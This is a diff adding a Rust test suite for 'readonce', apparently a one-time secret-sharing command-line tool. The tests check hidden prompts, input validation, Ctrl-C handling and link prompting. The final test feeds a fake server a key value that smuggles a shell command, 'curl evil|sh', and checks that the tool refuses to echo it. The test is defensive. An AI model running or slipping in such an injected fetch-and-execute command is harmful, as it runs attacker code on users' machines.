@@ -1,0 +1,133 @@
+//! What is typed at a prompt: shared as it is or refused, and never shown.
+
+use crate::fake::{Does, Fake};
+use crate::pty::Pty;
+use crate::support::Cli;
+use readonce_tests::app::TestApp;
+
+const PROMPT: &str = "Secret (one line, not shown): ";
+
+/// Types bytes at the prompt of `readonce share`, and answers with the exit
+/// code, what was seen, and what the server was sent.
+async fn shared(typed: impl AsRef<[u8]> + Send + 'static) -> (i32, String, Vec<String>) {
+    let created = "{\"metadata_key\":\"m\",\"secret_key\":\"s\"}";
+    let fake = Fake::start(&[Does::Answers(200, "", created)]).await;
+    let cli = Cli::at(&fake.origin);
+    let (code, seen) = tokio::task::spawn_blocking(move || {
+        let mut share = Pty::start(&cli, "readonce share");
+        share.sees(PROMPT);
+        share.types(typed);
+        share.ends()
+    })
+    .await
+    .unwrap();
+    (code, seen, fake.requests())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_typed_as_soon_as_the_prompt_appears_is_shown() {
+    for _ in 0..20 {
+        let (code, seen, requests) = shared("hunter2 Zażółć\n").await;
+        assert!(code == 0 && !seen.contains("hunter2"), "{seen}");
+        assert!(requests[0].ends_with("secret=hunter2+Za%C5%BC%C3%B3%C5%82%C4%87"), "{}", requests[0]);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_prompt_would_change_is_refused() {
+    let long = [vec![b'x'; 5_000], vec![b'\n']].concat();
+    for (typed, problem) in [
+        (b"hun\tter2\n".to_vec(), "a control character"),
+        (b"\x1b[Axyz\n".to_vec(), "a control character"),
+        (b"hun\x1ater2\n".to_vec(), "a control character"),
+        (b"hun\xffter2\n".to_vec(), "no text in UTF-8"),
+        (b"\x04".to_vec(), "ended before the line did"),
+        (long, "longer than the terminal takes"),
+    ] {
+        let (code, seen, requests) = shared(typed).await;
+        assert!(code == 5 && seen.contains(problem) && !seen.contains("ter2"), "{seen}");
+        assert!(requests.is_empty());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_paste_whose_last_line_has_no_end_is_not_cut() {
+    let (code, seen, requests) = shared("line1\nline2").await;
+    assert!(code == 5 && seen.contains("more than one line was pasted"), "{seen}");
+    assert!(!seen.contains("line1") && !seen.contains("line2"), "{seen}");
+    assert!(requests.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ctrl_c_at_a_prompt_leaves_the_terminal_as_it_was() {
+    let (code, seen, requests) = shared("hunter2\x03").await;
+    assert!(code == 130 && !seen.contains("hunter2"), "{seen}");
+    assert!(requests.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ctrl_c_during_a_call_says_what_may_have_happened_and_leaves_no_file() {
+    let fake = Fake::start(&[Does::Hangs]).await;
+    let cli = Cli::at(&fake.origin);
+    let file = cli.path("key");
+    let (code, seen) = tokio::task::spawn_blocking(move || {
+        let mut get = Pty::start(&cli, "readonce get --yes --output key abc");
+        get.sees("Waiting for ");
+        get.types("\x03");
+        get.ends()
+    })
+    .await
+    .unwrap();
+    assert!(code == 130 && seen.contains("may be used up all the same"), "{seen}");
+    assert!(!file.exists());
+    assert_eq!(fake.requests().len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_link_that_is_not_on_the_command_line_is_asked_for_and_its_host_is_named() {
+    let app = TestApp::start().await;
+    let cli = Cli::at(app.origin());
+    let passphrase = cli.write("passphrase", "pass phrase");
+    let host = app.origin().replace("http://", "");
+    for command in ["readonce get", "readonce get -", "readonce get <link"] {
+        let (key, link) = cli.shared_with_key("correct horse", &["--passphrase-file", &passphrase]).await;
+        let copy = Cli::at(app.origin());
+        copy.write("link", format!("{link}\n"));
+        let host = host.clone();
+        tokio::task::spawn_blocking(move || {
+            let mut get = Pty::start(&copy, command);
+            if !command.contains('<') {
+                get.sees("Link or key (not shown): ");
+                get.types(format!("{link}\n"));
+            }
+            get.sees(&format!("Reveal it from {host} now? [y/N] "));
+            get.types("y\n");
+            get.sees(&format!("Passphrase for {host} (not shown; empty to give up): "));
+            get.types("pass phrase\n");
+            let (code, seen) = get.ends();
+            assert!(code == 0 && seen.ends_with("correct horse\r\n") && !seen.contains(&link), "{seen}");
+            let mut receipt = Pty::start(&copy, "readonce receipt");
+            receipt.sees("Link or key (not shown): ");
+            receipt.types(format!("{key}\n"));
+            let (code, seen) = receipt.ends();
+            assert!(code == 0 && seen.contains("State:       read, ") && !seen.contains(&key), "{seen}");
+        })
+        .await
+        .unwrap();
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_commands_to_follow_are_whole_and_hold_nothing_of_a_servers() {
+    for (key, expected) in [("m", true), ("m; curl evil|sh #", false)] {
+        let body = format!("{{\"metadata_key\":\"{key}\",\"secret_key\":\"s\"}}");
+        let fake = Fake::start(&[Does::Answers(200, "", body.leak())]).await;
+        let cli = Cli::new();
+        let line =
+            format!("echo x | readonce share --server {} --insecure-http --config /dev/null", fake.origin);
+        let (code, seen) = tokio::task::spawn_blocking(move || Pty::start(&cli, &line).ends()).await.unwrap();
+        let follows =
+            format!("readonce --config /dev/null --server {} --insecure-http receipt m ", fake.origin);
+        assert!(code == 0 && seen.contains(&follows) == expected && !seen.contains("evil"), "{seen}");
+    }
+}
